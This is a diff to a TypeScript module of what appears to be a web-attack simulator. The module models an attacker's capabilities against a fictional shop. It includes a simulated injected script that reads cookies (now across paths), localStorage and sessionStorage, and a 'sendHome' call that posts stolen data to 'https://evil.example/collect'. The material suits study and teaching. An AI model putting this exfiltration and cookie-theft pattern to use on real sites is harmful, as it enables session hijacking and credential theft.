@@ -1,71 +1,20 @@
 /** What an attacker can do in an attack: with a program at home always, and with what was granted. Not: what a given attack does (attacks/). */
-import type { Fields, HttpRequest, HttpResponse } from '#http/message';
-import type { Attack, Grant } from './attack';
+import { scriptView } from '#cookies/cookie-jar';
+import type { Fields } from '#http/message';
+import type { Attack, Grant, Hands, Stolen } from './attack';
 import { loadImage, navigate, setTab, submitForm, tabAt, type Place } from './browser';
-import { issueAccessToken, type Special } from './access-token';
+import { issueAccessToken } from './access-token';
 import { bearerFields } from './bearer';
-import type { Mode, Page } from './mode';
 import { openPage } from './page';
 import { allowsInlineScript } from './page-policy';
 import { policyOf } from './defences';
 import type { TabId } from './party';
 import { json } from './response';
-import type { Setup } from './setup';
-import { ATTACKER_NAME, ATTACKER_PASSWORD, ORIGIN, USERNAME } from './shop';
+import { ORIGIN } from './origins';
+import { ATTACKER_NAME, ATTACKER_PASSWORD, USERNAME } from './shop';
 import type { Stage } from './stage';
-import type { ServerState } from './world';
 
-/** A credential as the attacker holds it. */
-export type Stolen =
-  | { readonly type: 'cookie'; readonly name: string; readonly value: string }
-  | { readonly type: 'token'; readonly value: string };
-
-/** A page of the attacker's, open in the victim's browser. */
-interface OwnPage extends Pick<Page, 'send'> {
-  form(method: 'GET' | 'POST', url: string, values: Readonly<Record<string, string>>): Promise<void>;
-  image(url: string): Promise<void>;
-}
-
-/** Script of the attacker's in a page of the shop. */
-export interface InjectedPage extends Page {
-  /** Everything that `document.cookie` shows and Web Storage holds. */
-  readStorage(): Stolen[];
-  /** Sends text to the attacker's server. */
-  sendHome(text: string): Promise<void>;
-}
-
-export interface Hands {
-  readonly mode: Mode;
-  readonly setup: Setup;
-  /** Notes what the attacker does at home, without a request. */
-  note(says: string): void;
-  /** A request by a program, without a browser's rules. @param url absolute, or a path at the shop */
-  send(method: string, url: string, fields?: Fields, content?: string): Promise<HttpResponse>;
-  /** A request with stolen credentials, each put where the shop looks for it. */
-  replay(stolen: readonly Stolen[], method: string, path: string, content?: string): Promise<HttpResponse>;
-  /** What the victim or the shop's people do meanwhile. @param id of an act */
-  meanwhile(id: string): Promise<void>;
-  wait(seconds: number): void;
-  /** Grant: markup in a page of the shop. @returns the page its script runs in; undefined when it does not run */
-  inject(markup: string): Promise<InjectedPage | undefined>;
-  /** Grant: a page that the victim opens. */
-  ownPage(): Promise<OwnPage>;
-  /** Grant: script on a sibling host. */
-  siblingPage(): Page;
-  /** Grant: the network. The victim follows a link to the shop by http. @returns the request, as it went over the network */
-  listen(): Promise<HttpRequest | undefined>;
-  /** Grant: a log of requests. @returns the last one by the victim's page that carried credentials */
-  log(): HttpRequest | undefined;
-  /** Grant: a backup of the database. */
-  backup(): ServerState;
-  /** Grant: a copy of the browser. */
-  copy(): Stolen[];
-  /** Grant: an account. @returns the attacker's own credentials at the shop */
-  ownAccount(): Promise<Stolen[]>;
-  /** Grant: a token for another use. @returns one of the victim's, issued like an access token but for what is special */
-  otherToken(special: Special): Promise<string>;
-}
-
+const REFRESH_PATH = '/auth/refresh';
 const VICTIM_SHOP: Place = { userAgent: 'victim', tab: 'shop' };
 
 const fieldsOf = (stolen: readonly Stolen[]): Fields => {
@@ -81,7 +30,7 @@ const tokensIn = (values: Iterable<string>): Stolen[] =>
   [...values].filter((value) => looksLikeToken(value)).map((value) => ({ type: 'token', value }));
 
 /** `a=1; b=2` as cookies. */
-export const cookiesIn = (text: string): Stolen[] =>
+const cookiesIn = (text: string): Stolen[] =>
   text
     .split('; ')
     .filter((pair) => pair.includes('='))
@@ -157,7 +106,20 @@ export const giveHands = (attack: Attack, stage: Stage, meanwhile: (id: string) 
         ...page,
         readStorage: () => {
           const agent = stage.world().userAgents.victim;
-          const shown = page.read('document.cookie', '', 'The injected script reads document.cookie.');
+          // A cookie's path hides nothing: script can open a page there and look (RFC 6265bis section 8.5).
+          const shown = ['/', REFRESH_PATH].map((path) =>
+            scriptView(agent.jar, `${ORIGIN}${path}`, stage.world().clock),
+          );
+          const cookies = [...new Set(shown.flatMap((text) => text.split('; ')))].join('; ');
+          stage.add({
+            type: 'script',
+            by: { type: 'page', ...VICTIM_SHOP },
+            area: 'document.cookie',
+            did: 'read',
+            name: '',
+            says: 'The injected script reads document.cookie.',
+            ...(cookies === '' ? {} : { value: cookies }),
+          });
           const held = agent.localStorage[ORIGIN] ?? {};
           const local = Object.keys(held).map((name) =>
             page.read('localStorage', name, 'The injected script reads localStorage.'),
@@ -166,7 +128,7 @@ export const giveHands = (attack: Attack, stage: Stage, meanwhile: (id: string) 
             page.read('sessionStorage', name, 'The injected script reads sessionStorage.'),
           );
           const values = [...local, ...session].filter((value) => value !== undefined);
-          return [...cookiesIn(shown ?? ''), ...tokensIn(values)];
+          return [...cookiesIn(cookies), ...tokensIn(values)];
         },
         sendHome: async (text) => {
           await page.send('POST', 'https://evil.example/collect', [], text, {
@@ -181,7 +143,7 @@ export const giveHands = (attack: Attack, stage: Stage, meanwhile: (id: string) 
       const place = await openAt('evil');
       const page = openPage(stage, place);
       return {
-        send: page.send,
+        send: (...wanted) => page.send(...wanted),
         form: (method, url, values) => submitForm(stage, place, method, url, values),
         image: (url) => loadImage(stage, place, url),
       };
